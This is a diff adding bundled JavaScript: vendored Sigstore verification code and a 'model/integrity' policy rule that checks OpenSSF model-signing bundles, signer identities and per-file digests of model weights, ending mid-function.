+	// https://en.wikipedia.org/wiki/Hamming_weight
+	function onesCount(num) {
+	    return num.toString(2).split('1').length - 1;
+	}
+	// Returns the number of bits necessary to represent an integer in binary.
+	function bitLength(n) {
+	    if (n === 0n) {
+	        return 0;
+	    }
+	    return n.toString(2).length;
+	}
+	// Hashing logic according to RFC6962.
+	// https://datatracker.ietf.org/doc/html/rfc6962#section-2
+	function hashChildren(left, right) {
+	    return core_1.crypto.digest('sha256', RFC6962_NODE_HASH_PREFIX, left, right);
+	}
+	function hashLeaf(leaf) {
+	    return core_1.crypto.digest('sha256', RFC6962_LEAF_HASH_PREFIX, leaf);
+	}
+	return merkle;
+}
+
+var set = {};
+
+var hasRequiredSet;
+
+function requireSet () {
+	if (hasRequiredSet) return set;
+	hasRequiredSet = 1;
+	Object.defineProperty(set, "__esModule", { value: true });
+	set.verifyTLogSET = verifyTLogSET;
+	/*
+	Copyright 2023 The Sigstore Authors.
+
+	Licensed under the Apache License, Version 2.0 (the "License");
+	you may not use this file except in compliance with the License.
+	You may obtain a copy of the License at
+
+	    http://www.apache.org/licenses/LICENSE-2.0
+
+	Unless required by applicable law or agreed to in writing, software
+	distributed under the License is distributed on an "AS IS" BASIS,
+	WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+	See the License for the specific language governing permissions and
+	limitations under the License.
+	*/
+	const core_1 = requireDist$1();
+	const error_1 = requireError();
+	const trust_1 = requireTrust();
+	// Verifies the SET for the given entry against the list of trusted
+	// transparency logs. Returns true if the SET can be verified against at least
+	// one of the trusted logs; otherwise, returns false.
+	function verifyTLogSET(entry, tlogs) {
+	    // Filter the list of tlog instances to only those which might be able to
+	    // verify the SET
+	    const validTLogs = (0, trust_1.filterTLogAuthorities)(tlogs, {
+	        logID: entry.logId.keyId,
+	        targetDate: new Date(Number(entry.integratedTime) * 1000),
+	    });
+	    // Check to see if we can verify the SET against any of the valid tlogs
+	    const verified = validTLogs.some((tlog) => {
+	        // Re-create the original Rekor verification payload
+	        const payload = toVerificationPayload(entry);
+	        // Canonicalize the payload and turn into a buffer for verification
+	        const data = Buffer.from(core_1.json.canonicalize(payload), 'utf8');
+	        // Extract the SET from the tlog entry
+	        const signature = entry.inclusionPromise.signedEntryTimestamp;
+	        return core_1.crypto.verify(data, tlog.publicKey, signature);
+	    });
+	    if (!verified) {
+	        throw new error_1.VerificationError({
+	            code: 'TLOG_INCLUSION_PROMISE_ERROR',
+	            message: 'inclusion promise could not be verified',
+	        });
+	    }
+	}
+	// Returns a properly formatted "VerificationPayload" for one of the
+	// transaction log entires in the given bundle which can be used for SET
+	// verification.
+	function toVerificationPayload(entry) {
+	    const { integratedTime, logIndex, logId, canonicalizedBody } = entry;
+	    return {
+	        body: canonicalizedBody.toString('base64'),
+	        integratedTime: Number(integratedTime),
+	        logIndex: Number(logIndex),
+	        logID: logId.keyId.toString('hex'),
+	    };
+	}
+	return set;
+}
+
+var hasRequiredTlog;
+
+function requireTlog () {
+	if (hasRequiredTlog) return tlog;
+	hasRequiredTlog = 1;
+	Object.defineProperty(tlog, "__esModule", { value: true });
+	tlog.verifyTLogBody = verifyTLogBody;
+	tlog.verifyTLogInclusion = verifyTLogInclusion;
+	/*
+	Copyright 2023 The Sigstore Authors.
+
+	Licensed under the Apache License, Version 2.0 (the "License");
+	you may not use this file except in compliance with the License.
+	You may obtain a copy of the License at
+
+	    http://www.apache.org/licenses/LICENSE-2.0
+
+	Unless required by applicable law or agreed to in writing, software
+	distributed under the License is distributed on an "AS IS" BASIS,
+	WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+	See the License for the specific language governing permissions and
+	limitations under the License.
+	*/
+	const v2_1 = requireV2();
+	const error_1 = requireError();
+	const dsse_1 = requireDsse();
+	const hashedrekord_1 = requireHashedrekord();
+	const intoto_1 = requireIntoto();
+	const checkpoint_1 = requireCheckpoint();
+	const merkle_1 = requireMerkle();
+	const set_1 = requireSet();
+	// Verifies that the given tlog entry matches the supplied signature content.
+	function verifyTLogBody(entry, sigContent) {
+	    const { kind, version } = entry.kindVersion;
+	    const body = JSON.parse(entry.canonicalizedBody.toString('utf8'));
+	    // validate body
+	    if (kind !== body.kind || version !== body.apiVersion) {
+	        throw new error_1.VerificationError({
+	            code: 'TLOG_BODY_ERROR',
+	            message: `kind/version mismatch - expected: ${kind}/${version}, received: ${body.kind}/${body.apiVersion}`,
+	        });
+	    }
+	    switch (kind) {
+	        case 'dsse':
+	            // Rekor V1 and V2 use incompatible types so we need to branch here based on version
+	            if (version == dsse_1.DSSE_API_VERSION_V1) {
+	                return (0, dsse_1.verifyDSSETLogBody)(body, sigContent);
+	            }
+	            else {
+	                const entryRekorV2 = v2_1.Entry.fromJSON(body);
+	                return (0, dsse_1.verifyDSSETLogBodyV2)(entryRekorV2, sigContent);
+	            }
+	        case 'intoto':
+	            return (0, intoto_1.verifyIntotoTLogBody)(body, sigContent);
+	        case 'hashedrekord':
+	            // Rekor V1 and V2 use incompatible types so we need to branch here based on version
+	            if (version == hashedrekord_1.HASHEDREKORD_API_VERSION_V1) {
+	                return (0, hashedrekord_1.verifyHashedRekordTLogBody)(body, sigContent);
+	            }
+	            else {
+	                const entryRekorV2 = v2_1.Entry.fromJSON(body);
+	                return (0, hashedrekord_1.verifyHashedRekordTLogBodyV2)(entryRekorV2, sigContent);
+	            }
+	        /* istanbul ignore next */
+	        default:
+	            throw new error_1.VerificationError({
+	                code: 'TLOG_BODY_ERROR',
+	                message: `unsupported kind: ${kind}`,
+	            });
+	    }
+	}
+	function verifyTLogInclusion(entry, tlogAuthorities) {
+	    let inclusionVerified = false;
+	    if (isTLogEntryWithInclusionPromise(entry)) {
+	        (0, set_1.verifyTLogSET)(entry, tlogAuthorities);
+	        inclusionVerified = true;
+	    }
+	    if (isTLogEntryWithInclusionProof(entry)) {
+	        const checkpoint = (0, checkpoint_1.verifyCheckpoint)(entry, tlogAuthorities);
+	        (0, merkle_1.verifyMerkleInclusion)(entry, checkpoint);
+	        inclusionVerified = true;
+	    }
+	    if (!inclusionVerified) {
+	        throw new error_1.VerificationError({
+	            code: 'TLOG_MISSING_INCLUSION_ERROR',
+	            message: 'inclusion could not be verified',
+	        });
+	    }
+	    return;
+	}
+	function isTLogEntryWithInclusionPromise(entry) {
+	    return entry.inclusionPromise !== undefined;
+	}
+	function isTLogEntryWithInclusionProof(entry) {
+	    return entry.inclusionProof !== undefined;
+	}
+	return tlog;
+}
+
+var hasRequiredVerifier;
+
+function requireVerifier () {
+	if (hasRequiredVerifier) return verifier$1;
+	hasRequiredVerifier = 1;
+	Object.defineProperty(verifier$1, "__esModule", { value: true });
+	verifier$1.Verifier = void 0;
+	/*
+	Copyright 2023 The Sigstore Authors.
+
+	Licensed under the Apache License, Version 2.0 (the "License");
+	you may not use this file except in compliance with the License.
+	You may obtain a copy of the License at
+
+	    http://www.apache.org/licenses/LICENSE-2.0
+
+	Unless required by applicable law or agreed to in writing, software
+	distributed under the License is distributed on an "AS IS" BASIS,
+	WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+	See the License for the specific language governing permissions and
+	limitations under the License.
+	*/
+	const util_1 = require$$6;
+	const error_1 = requireError();
+	const key_1 = requireKey();
+	const policy_1 = requirePolicy();
+	const timestamp_1 = requireTimestamp();
+	const tlog_1 = requireTlog();
+	class Verifier {
+	    trustMaterial;
+	    options;
+	    constructor(trustMaterial, options = {}) {
+	        this.trustMaterial = trustMaterial;
+	        this.options = {
+	            ctlogThreshold: options.ctlogThreshold ?? 1,
+	            tlogThreshold: options.tlogThreshold ?? 1,
+	            timestampThreshold: options.timestampThreshold ?? options.tsaThreshold ?? 1,
+	            tsaThreshold: 0,
+	        };
+	    }
+	    verify(entity, policy) {
+	        const timestamps = this.verifyTimestamps(entity);
+	        const signer = this.verifySigningKey(entity, timestamps);
+	        this.verifyTLogs(entity);
+	        this.verifySignature(entity, signer);
+	        if (policy) {
+	            this.verifyPolicy(policy, signer.identity || {});
+	        }
+	        return signer;
+	    }
+	    // Checks that all of the timestamps in the entity are valid and returns them
+	    verifyTimestamps(entity) {
+	        const timestamps = [];
+	        for (const timestamp of entity.timestamps) {
+	            switch (timestamp.$case) {
+	                case 'timestamp-authority':
+	                    timestamps.push((0, timestamp_1.getTSATimestamp)(timestamp.timestamp, entity.signature.signature, this.trustMaterial.timestampAuthorities));
+	                    break;
+	                case 'transparency-log': {
+	                    const result = (0, timestamp_1.getTLogTimestamp)(timestamp.tlogEntry);
+	                    /* istanbul ignore else */
+	                    if (result) {
+	                        timestamps.push(result);
+	                    }
+	                    break;
+	                }
+	            }
+	        }
+	        // Check for duplicate timestamps
+	        if (containsDupes(timestamps)) {
+	            throw new error_1.VerificationError({
+	                code: 'TIMESTAMP_ERROR',
+	                message: 'duplicate timestamp',
+	            });
+	        }
+	        if (timestamps.length < this.options.timestampThreshold) {
+	            throw new error_1.VerificationError({
+	                code: 'TIMESTAMP_ERROR',
+	                message: `expected ${this.options.timestampThreshold} timestamps, got ${timestamps.length}`,
+	            });
+	        }
+	        return timestamps.map((t) => t.timestamp);
+	    }
+	    // Checks that the signing key is valid for all of the the supplied timestamps
+	    // and returns the signer.
+	    verifySigningKey({ key }, timestamps) {
+	        switch (key.$case) {
+	            case 'public-key': {
+	                return (0, key_1.verifyPublicKey)(key.hint, timestamps, this.trustMaterial);
+	            }
+	            case 'certificate': {
+	                const result = (0, key_1.verifyCertificate)(key.certificate, timestamps, this.trustMaterial);
+	                /* istanbul ignore next - no fixture */
+	                if (containsDupes(result.scts)) {
+	                    throw new error_1.VerificationError({
+	                        code: 'CERTIFICATE_ERROR',
+	                        message: 'duplicate SCT',
+	                    });
+	                }
+	                if (result.scts.length < this.options.ctlogThreshold) {
+	                    throw new error_1.VerificationError({
+	                        code: 'CERTIFICATE_ERROR',
+	                        message: `expected ${this.options.ctlogThreshold} SCTs, got ${result.scts.length}`,
+	                    });
+	                }
+	                return result.signer;
+	            }
+	        }
+	    }
+	    // Checks that the tlog entries are valid for the supplied content
+	    verifyTLogs({ signature: content, tlogEntries }) {
+	        let tlogCount = 0;
+	        tlogEntries.forEach((entry) => {
+	            tlogCount++;
+	            (0, tlog_1.verifyTLogInclusion)(entry, this.trustMaterial.tlogs);
+	            (0, tlog_1.verifyTLogBody)(entry, content);
+	        });
+	        if (tlogCount < this.options.tlogThreshold) {
+	            throw new error_1.VerificationError({
+	                code: 'TLOG_ERROR',
+	                message: `expected ${this.options.tlogThreshold} tlog entries, got ${tlogCount}`,
+	            });
+	        }
+	    }
+	    // Checks that the signature is valid for the supplied content
+	    verifySignature(entity, signer) {
+	        if (!entity.signature.verifySignature(signer.key)) {
+	            throw new error_1.VerificationError({
+	                code: 'SIGNATURE_ERROR',
+	                message: 'signature verification failed',
+	            });
+	        }
+	    }
+	    verifyPolicy(policy, identity) {
+	        // Check the subject alternative name of the signer matches the policy
+	        /* istanbul ignore else */
+	        if (policy.subjectAlternativeName) {
+	            (0, policy_1.verifySubjectAlternativeName)(policy.subjectAlternativeName, identity.subjectAlternativeName);
+	        }
+	        // Check that the extensions of the signer match the policy
+	        /* istanbul ignore else */
+	        if (policy.extensions) {
+	            (0, policy_1.verifyExtensions)(policy.extensions, identity.extensions);
+	        }
+	        // Check that the OIDs of the signer match the policy
+	        /* istanbul ignore if */
+	        if (policy.oids) {
+	            (0, policy_1.verifyOIDs)(policy.oids, identity.oids);
+	        }
+	    }
+	}
+	verifier$1.Verifier = Verifier;
+	// Checks for duplicate items in the array. Objects are compared using
+	// deep equality.
+	function containsDupes(arr) {
+	    for (let i = 0; i < arr.length; i++) {
+	        for (let j = i + 1; j < arr.length; j++) {
+	            if ((0, util_1.isDeepStrictEqual)(arr[i], arr[j])) {
+	                return true;
+	            }
+	        }
+	    }
+	    return false;
+	}
+	return verifier$1;
+}
+
+var hasRequiredDist;
+
+function requireDist () {
+	if (hasRequiredDist) return dist$1;
+	hasRequiredDist = 1;
+	(function (exports) {
+		Object.defineProperty(exports, "__esModule", { value: true });
+		exports.Verifier = exports.toTrustMaterial = exports.VerificationError = exports.PolicyError = exports.toSignedEntity = void 0;
+		/* istanbul ignore file */
+		/*
+		Copyright 2023 The Sigstore Authors.
+
+		Licensed under the Apache License, Version 2.0 (the "License");
+		you may not use this file except in compliance with the License.
+		You may obtain a copy of the License at
+
+		    http://www.apache.org/licenses/LICENSE-2.0
+
+		Unless required by applicable law or agreed to in writing, software
+		distributed under the License is distributed on an "AS IS" BASIS,
+		WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+		See the License for the specific language governing permissions and
+		limitations under the License.
+		*/
+		var bundle_1 = requireBundle();
+		Object.defineProperty(exports, "toSignedEntity", { enumerable: true, get: function () { return bundle_1.toSignedEntity; } });
+		var error_1 = requireError();
+		Object.defineProperty(exports, "PolicyError", { enumerable: true, get: function () { return error_1.PolicyError; } });
+		Object.defineProperty(exports, "VerificationError", { enumerable: true, get: function () { return error_1.VerificationError; } });
+		var trust_1 = requireTrust();
+		Object.defineProperty(exports, "toTrustMaterial", { enumerable: true, get: function () { return trust_1.toTrustMaterial; } });
+		var verifier_1 = requireVerifier();
+		Object.defineProperty(exports, "Verifier", { enumerable: true, get: function () { return verifier_1.Verifier; } }); 
+	} (dist$1));
+	return dist$1;
+}
+
+var distExports = requireDist();
+
+/**
+ * OpenSSF model signing (https://github.com/sigstore/model-transparency): a Sigstore bundle (`model.sig` by
+ * default) whose DSSE envelope carries an in-toto Statement v1 with predicate type
+ * `https://model_signing/signature/v1.0` listing every file of the model directory and its digest
+ * (`predicate.resources[]: { name, algorithm, digest }`, names relative to the signed directory, `/`-separated;
+ * with `serialization.method: shards` a name is `path:start:end`). The older `https://model_signing/Digests/v0.1`
+ * form lists the files as the statement's subjects instead.
+ *
+ * The signature is verified with @sigstore/verify: keyless bundles (a Fulcio certificate, transparency log
+ * entries) against the trusted root the policy supplies, with the signer identity (certificate issuer and
+ * subject) matched against the policy; key-based bundles against the policy's public keys. Nothing here
+ * touches the network: the trusted root is data the policy hands in.
+ */
+const MAX_BUNDLE_BYTES = 4 * 1024 * 1024;
+const MAX_RESOURCES = 100_000;
+const PREDICATE_V1 = 'https://model_signing/signature/v1.0';
+const PREDICATE_V01 = 'https://model_signing/Digests/v0.1';
+const IN_TOTO = 'application/vnd.in-toto+json';
+/** model_signing's hash names → Node's (blake2 there is BLAKE2b with a 64-byte digest). */
+const ALGOS = { sha256: 'sha256', blake2: 'blake2b512', blake2b: 'blake2b512', sha512: 'sha512' };
+/** Parses a model-signing bundle; FormatError for anything that is not one. */
+function parseModelSignature(text) {
+    let json;
+    try {
+        json = JSON.parse(text);
+    }
+    catch (error) {
+        throw new FormatError(`not JSON (${error.message})`);
+    }
+    let bundle;
+    try {
+        bundle = distExports$2.bundleFromJSON(json);
+    }
+    catch (error) {
+        throw new FormatError(`not a valid Sigstore bundle (${error.message})`);
+    }
+    if (bundle.content.$case !== 'dsseEnvelope')
+        throw new FormatError('the bundle signs a message, not an in-toto statement');
+    const env = bundle.content.dsseEnvelope;
+    if (env.payloadType !== IN_TOTO)
+        throw new FormatError(`the envelope's payload type is ${JSON.stringify(env.payloadType)}, not ${IN_TOTO}`);
+    const keyless = bundle.verificationMaterial.content.$case !== 'publicKey';
+    return { bundle, statement: parseStatement(env.payload), keyless };
+}
+function parseStatement(payload) {
+    let s;
+    try {
+        s = JSON.parse(payload.toString('utf8'));
+    }
+    catch {
+        throw new FormatError('the in-toto statement is not JSON');
+    }
+    if (typeof s !== 'object' || s === null || !String(s._type ?? '').startsWith('https://in-toto.io/Statement/'))
+        throw new FormatError('the payload is not an in-toto statement');
+    const predicateType = String(s.predicateType ?? '');
+    if (predicateType === PREDICATE_V1) {
+        const p = s.predicate ?? {};
+        const raw = Array.isArray(p.resources) ? p.resources : [];
+        if (raw.length > MAX_RESOURCES)
+            throw new FormatError(`more than ${MAX_RESOURCES} signed files`);
+        const method = String(p.serialization?.method ?? 'files');
+        const resources = raw.map((r, i) => resource(r?.name, r?.algorithm ?? p.serialization?.hash_type, r?.digest, method, i));
+        const ignorePaths = Array.isArray(p.serialization?.ignore_paths) ? p.serialization.ignore_paths.filter((x) => typeof x === 'string') : [];
+        // The subject's digest is SHA-256 over the resources' digests in order (checked against model-transparency's
+        // recorded v1.0 bundles); a statement whose subject does not match its own list was not made by the tool.
+        const subject = Array.isArray(s.subject) ? s.subject[0]?.digest?.sha256 : undefined;
+        if (typeof subject === 'string') {
+            const root = createHash('sha256');
+            for (const r of resources)
+                root.update(Buffer.from(r.digest, 'hex'));
+            if (root.digest('hex') !== subject.toLowerCase())
+                throw new FormatError("the statement's subject digest does not match its list of files");
+        }
+        return { predicateType, method, resources, ignorePaths };
+    }
+    if (predicateType === PREDICATE_V01) {
+        const raw = Array.isArray(s.subject) ? s.subject : [];
+        if (raw.length > MAX_RESOURCES)
+            throw new FormatError(`more than ${MAX_RESOURCES} signed files`);
+        const resources = raw.map((r, i) => resource(r?.name, 'sha256', r?.digest?.sha256, 'files', i));
+        return { predicateType, method: 'files', resources, ignorePaths: [] };
+    }
+    throw new FormatError(`the statement's predicate type ${JSON.stringify(predicateType)} is not OpenSSF model signing`);
+}
+function resource(name, algorithm, digest, method, i) {
+    if (typeof name !== 'string' || typeof digest !== 'string' || typeof algorithm !== 'string')
+        throw new FormatError(`signed file ${i + 1} has no name, algorithm or digest`);
+    if (!ALGOS[algorithm])
+        throw new FormatError(`signed file ${JSON.stringify(name)} uses the hash ${JSON.stringify(algorithm)}, which is not supported`);
+    let path = name;
+    let range;
+    const shard = method === 'shards' ? /^(.*):(\d+):(\d+)$/.exec(name) : null;
+    if (shard) {
+        path = shard[1];
+        range = [Number(shard[2]), Number(shard[3])];
+    }
+    const parts = path.split('/');
+    if (path.startsWith('/') || parts.some((p) => p === '..' || p === ''))
+        throw new FormatError(`signed file name ${JSON.stringify(name)} leaves the model directory`);
+    return { path, ...(range ? { range } : {}), algorithm, digest: digest.toLowerCase() };
+}
+/** Verifies the bundle's signature and (keyless) signer identity. Never throws for a bad bundle. */
+function verifySignature(parsed, trust) {
+    const entity = distExports.toSignedEntity(parsed.bundle);
+    if (!parsed.keyless) {
+        if (trust.publicKeys.length === 0)
+            return { ok: false, reason: 'it is signed with a key, and the policy names no public key to verify it with' };
+        let keys;
+        try {
+            keys = trust.publicKeys.map((pem) => createPublicKey(pem));
+        }
+        catch (error) {
+            return { ok: false, reason: `a public key in the policy could not be read (${error.message})` };
+        }
+        for (const key of keys) {
+            const material = {
+                certificateAuthorities: [], timestampAuthorities: [], tlogs: [], ctlogs: [],
+                publicKey: () => ({ publicKey: key, validFor: () => true }),
+            };
+            try {
+                new distExports.Verifier(material, { tlogThreshold: 0, ctlogThreshold: 0, timestampThreshold: 0 }).verify(entity);
+                return { ok: true };
+            }
+            catch {
+                // Try the next key.
+            }
+        }
+        return { ok: false, reason: `its signature does not verify with any of the policy's ${keys.length} public key(s)` };
+    }
+    if (trust.trustedRoot === undefined)
+        return { ok: false, reason: 'it is a keyless (Sigstore) signature, and the policy supplies no trusted root to verify it against' };
+    let material;
+    try {
+        material = distExports.toTrustMaterial(distExports$1.TrustedRoot.fromJSON(trust.trustedRoot));
+    }
+    catch (error) {
+        return { ok: false, reason: `the policy's trusted root could not be read (${error.message})` };
+    }
+    let signer;
+    try {
+        signer = new distExports.Verifier(material).verify(entity);
+    }
+    catch (error) {
+        return { ok: false, reason: `its signature does not verify against the trusted root (${error.message})` };
+    }
+    const issuer = signer.identity?.extensions?.issuer;
+    const subject = signer.identity?.subjectAlternativeName;
+    if (trust.identities.length && !trust.identities.some((id) => wildcard(id.issuer, issuer) && wildcard(id.subject, subject))) {
+        return { ok: false, reason: `it was signed by ${subject ?? 'an unknown subject'} (issuer ${issuer ?? 'unknown'}), who is not among the policy's identities` };
+    }
+    return { ok: true, ...(issuer ? { issuer } : {}), ...(subject ? { subject } : {}) };
+}
+function wildcard(pattern, value) {
+    if (value === undefined)
+        return false;
+    const re = new RegExp(`^${pattern.split('*').map((p) => p.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')).join('.*')}$`);
+    return re.test(value);
+}
+/**
+ * Compares the statement's digests with the files under `dirAbs` (no symlink followed): files that are listed
+ * but absent or different, and files present in the directory but not signed (except the signature itself and
+ * the statement's ignore paths). Hashing is the one full read of each file.
+ */
+async function checkDigests(dirAbs, statement, opts) {
+    const problems = [];
+    const listed = new Set(statement.resources.map((r) => r.path));
+    for (const r of statement.resources) {
+        const got = await hashRange(join(dirAbs, r.path), ALGOS[r.algorithm], r.range, opts.maxBytes);
+        if (got.kind === 'absent')
+            problems.push({ kind: 'missing', path: r.path });
+        else if (got.kind === 'too-large')
+            problems.push({ kind: 'too-large', path: r.path, size: got.size });
+        else if (got.digest !== r.digest)
+            problems.push({ kind: 'mismatch', path: r.path, expected: r.digest, actual: got.digest, ...(r.range ? { range: r.range } : {}) });
+    }
+    const ignored = (p) => p === opts.signatureName || statement.ignorePaths.some((i) => p === i || p.startsWith(`${i.replace(/\/$/, '')}/`));
+    for (const p of await listFiles(dirAbs, opts.maxFiles ?? 10_000))
+        if (!listed.has(p) && !ignored(p) && !p.startsWith('.git/'))
+            problems.push({ kind: 'unsigned', path: p });
+    return problems;
+}
+async function hashRange(abs, algo, range, maxBytes) {
+    let handle;
+    try {
+        handle = await promises$1.open(abs, constants$7.O_RDONLY | constants$7.O_NONBLOCK | constants$7.O_NOFOLLOW);
+    }
+    catch {
+        return { kind: 'absent' };
+    }
+    try {
+        const stat = await handle.stat();
+        if (!stat.isFile())
+            return { kind: 'absent' };
+        const [start, end] = range ?? [0, stat.size];
+        if (end - start > maxBytes)
+            return { kind: 'too-large', size: stat.size };
+        const hash = createHash(algo);
+        const buf = Buffer.allocUnsafe(Math.max(1, Math.min(4 * 1024 * 1024, end - start)));
+        for (let at = start; at < Math.min(end, stat.size);) {
+            const { bytesRead } = await handle.read(buf, 0, Math.min(buf.length, end - at), at);
+            if (bytesRead === 0)
+                break;
+            hash.update(buf.subarray(0, bytesRead));
+            at += bytesRead;
+        }
+        return { kind: 'ok', digest: hash.digest('hex') };
+    }
+    finally {
+        await handle.close();
+    }
+}
+/** Regular files under a directory, relative and `/`-separated, without following symlinks; bounded. */
+async function listFiles(dirAbs, max) {
+    const out = [];
+    const walk = async (rel) => {
+        const entries = await promises$1.readdir(join(dirAbs, rel), { withFileTypes: true }).catch(() => []);
+        for (const e of entries.sort((a, b) => a.name.localeCompare(b.name))) {
+            if (out.length >= max)
+                return;
+            const p = rel ? `${rel}/${e.name}` : e.name;
+            if (e.isDirectory() && e.name !== '.git')
+                await walk(p);
+            else if (e.isFile())
+                out.push(p);
+        }
+    };
+    await walk('');
+    return out;
+}
+
+const short = (h) => `${h.slice(0, 12)}…`;
+var modelIntegrity = defineRule({
+    meta: {
+        id: 'model/integrity',
+        description: 'A model file is not covered by the checksum manifest or OpenSSF model signature the policy requires, or its signature or digests do not verify.',
+        help: [
+            'Model weights are large opaque files: a swapped checkpoint (a backdoored fine-tune, a pickle with a payload)',
+            'looks like any other in a diff. Signing the model directory with OpenSSF model signing (`model_signing sign`,',
+            'a Sigstore bundle `model.sig` holding an in-toto statement of every file\'s digest) or listing it in a',
+            'checksum manifest lets the gate prove the bytes are the ones the releaser signed off. This rule verifies',
+            'each model-signing bundle the change touches or that covers a changed model: the statement\'s per-file',
+            'digests against the files (and files in the directory the statement does not list), the signature with',
+            '`@sigstore/verify` against the trusted root or public keys the policy supplies, and the signer identity',
+            '(issuer and subject) the policy names. Where the policy requires it, models must be signed or listed in',
+            'a checksum manifest (`SHA256SUMS`, `FILE.sha256`, DVC `.dvc`).',
+            '',
+            '**Remediation**: re-sign the model after an intended change (`model_signing sign` over the model directory) or',
+            'update its manifest in the same PR; restore files that changed by accident. Keyless signatures need the',
+            'policy\'s `trusted-root` (a Sigstore `trusted_root.json`) and `identities`; key-based ones its `public-keys`.',
+        ].join('\n'),
+        defaultSeverity: 'high',
+        kinds: [],
+        options: {
+            type: 'object',
+            properties: {
+                'require-signature': { type: 'array', items: { type: 'string', minLength: 1 }, description: 'Globs of model files that must be covered by a model-signing bundle.' },
+                'require-checksum': { type: 'array', items: { type: 'string', minLength: 1 }, description: 'Globs of model files that must be listed in a checksum manifest.' },
+                'signature-names': { type: 'array', items: { type: 'string', minLength: 1 }, description: 'File name globs of model-signing bundles.' },
+                'trusted-root': { type: ['string', 'null'], description: 'Path (from the repository root) of the Sigstore trusted_root.json for keyless bundles; read from the base branch in a PR.' },
+                'public-keys': { type: 'array', items: { type: 'string', minLength: 1 }, description: 'PEM public keys for key-based bundles, inline or as repository paths (read from the base branch in a PR).' },
+                identities: {
+                    type: 'array',
+                    items: { type: 'object', properties: { issuer: { type: 'string', minLength: 1 }, subject: { type: 'string', minLength: 1 } }, required: ['issuer', 'subject'], additionalProperties: false },
+                    description: 'Accepted signers of keyless bundles (OIDC issuer and certificate subject; `*` matches any run of characters).',
+                },
+            },
+            additionalProperties: false,
+        },
+        defaultOptions: { 'require-signature': [], 'require-checksum': [], 'signature-names': ['model.sig', '*.sigstore', '*.sigstore.json'], 'trusted-root': null, 'public-keys': [], identities: [] },
+    },
+    async checkRun(ctx) {
+        if (ctx.files.length === 0)
+            return;
+        const root = rootOf(ctx.files[0]);
+        const isSig = picomatch(ctx.options['signature-names'], { basename: true, dot: true });
+        const models = ctx.files.filter((f) => f.kind === 'model');
+        // Signatures the change touches, and those in a changed model's folder or its parents.
+        const sigs = new Set(ctx.files.filter((f) => isSig(f.path)).map((f) => f.path));
+        const listing = new Map();
+        for (const m of models) {
+            for (let dir = posix.dirname(m.path);; dir = posix.dirname(dir)) {
+                const rel = dir === '.' ? '' : dir;
+                if (!listing.has(rel))
+                    listing.set(rel, await promises$1.readdir(join(root, rel)).catch(() => []));
+                for (const n of listing.get(rel))
+                    if (isSig(n))
+                        sigs.add(rel ? `${rel}/${n}` : n);
+                if (rel === '')
+                    break;
+            }
+        }
+        const covered = new Set();
+        let trust;
+        for (const sig of [...sigs].sort()) {
+            trust ??= await loadTrust(ctx, root);
+            await checkSignature(ctx, root, sig, trust, covered);
+        }
+        const mustSign = picomatch(ctx.options['require-signature'], { dot: true });
+        for (const m of models)
+            if (ctx.options['require-signature'].length && mustSign(m.path) && !covered.has(m.path)) {
+                ctx.report({ path: m.path, message: `The policy requires ${m.path} to be signed, but no model-signing bundle (${ctx.options['signature-names'].join(', ')}) in its folder or a parent lists it; sign the model directory (model_signing sign) and commit the bundle.` });
+            }
+        const mustSum = picomatch(ctx.options['require-checksum'], { dot: true });
+        for (const m of models)
+            if (ctx.options['require-checksum'].length && mustSum(m.path))
+                await checkListed(ctx, root, m.path);
+    },
+});
+async function readTrusted(ctx, root, path) {
+    // In a PR the trust material comes from the base branch: the change cannot bring its own root or key.
+    if (ctx.change)
+        return ctx.change.readBase(path, MAX_BUNDLE_BYTES);
+    return readBounded(join(root, path), MAX_BUNDLE_BYTES);
+}
+async function loadTrust(ctx, root) {
+    const trust = { publicKeys: [], identities: ctx.options.identities };
+    const rootPath = ctx.options['trusted-root'];
+    if (rootPath) {
+        const bytes = await readTrusted(ctx, root, rootPath);
+        try {
+            if (bytes)
+                trust.trustedRoot = JSON.parse(bytes.toString('utf8'));
+            else
+                ctx.report({ path: ctx.policy.source, message: `The policy's trusted root ${rootPath} could not be read${ctx.change ? ' at the base commit' : ''}; keyless model signatures cannot be verified. Commit the Sigstore trusted_root.json there.` });
+        }
+        catch {
+            ctx.report({ path: ctx.policy.source, message: `The policy's trusted root ${rootPath} is not JSON; keyless model signatures cannot be verified. Replace it with a Sigstore trusted_root.json.` });
+        }
+    }
+    for (const key of ctx.options['public-keys']) {
+        if (key.trimStart().startsWith('-----BEGIN'))
+            trust.publicKeys.push(key);
+        else {
+            const bytes = await readTrusted(ctx, root, key);
+            if (bytes)
+                trust.publicKeys.push(bytes.toString('utf8'));
+            else
+                ctx.report({ path: ctx.policy.source, message: `The policy's public key file ${key} could not be read${ctx.change ? ' at the base commit' : ''}; bundles signed with it cannot be verified. Commit the PEM key there.` });
+        }
+    }
+    return trust;
+}
+async function checkSignature(ctx, root, sig, trust, covered) {
+    const bytes = await readBounded(join(root, sig), MAX_BUNDLE_BYTES);
+    if (!bytes)
+        return;
+    let parsed;
+    try {
+        parsed = parseModelSignature(bytes.toString('utf8'));
+    }
+    catch (error) {
+        if (!(error instanceof FormatError))
+            throw error;
+        ctx.report({ path: sig, message: `${sig} is not a usable model-signing bundle: ${error.message}; re-create it with model_signing sign.` });
+        return;
+    }
+    const dir = posix.dirname(sig) === '.' ? '' : posix.dirname(sig);
+    const inDir = (p) => (dir ? `${dir}/${p}` : p);
+    for (const r of parsed.statement.resources)
+        covered.add(inDir(r.path));
+    const result = verifySignature(parsed, trust);
+    if (!result.ok)
+        ctx.report({ path: sig, fingerprintKey: 'signature', message: `The model signature ${sig} does not verify: ${result.reason}. Re-sign the model, or fix the policy's trust settings.` });
+    else if (parsed.keyless && trust.identities.length === 0)
+        ctx.report({ path: sig, severity: 'medium', fingerprintKey: 'identity', message: `The model signature ${sig} verifies, but the policy names no signer identities, so a signature by anyone (here ${result.subject ?? 'an unknown subject'}) is accepted; add model/integrity identities.` });
+    const problems = await checkDigests(join(root, dir), parsed.statement, { signatureName: posix.basename(sig), maxBytes: ctx.policy.limits.maxFileBytes });
+    for (const p of problems)
+        report$1(ctx, sig, inDir(p.path), p);
+}
+function report$1(ctx, sig, path, p) {
+    const key = { fingerprintKey: `${p.kind}\0${path}` };
+    switch (p.kind) {
+        case 'missing':
